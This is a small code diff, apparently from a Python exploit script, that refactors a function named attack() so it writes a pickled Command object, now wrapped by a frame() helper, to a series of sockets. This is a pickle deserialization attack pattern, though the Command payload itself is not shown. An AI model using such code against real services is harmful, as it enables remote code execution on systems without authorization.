@@ -2,7 +2,6 @@
 
 import os
 import pickle
-import struct
 
 
 class Command:
@@ -12,5 +11,4 @@ class Command:
 
 def attack():
     for fd in sockets():
-        text = pickle.dumps(Command())
-        os.write(fd, struct.pack("<IQ", len(text), 0) + text)
+        os.write(fd, frame(pickle.dumps(Command())))
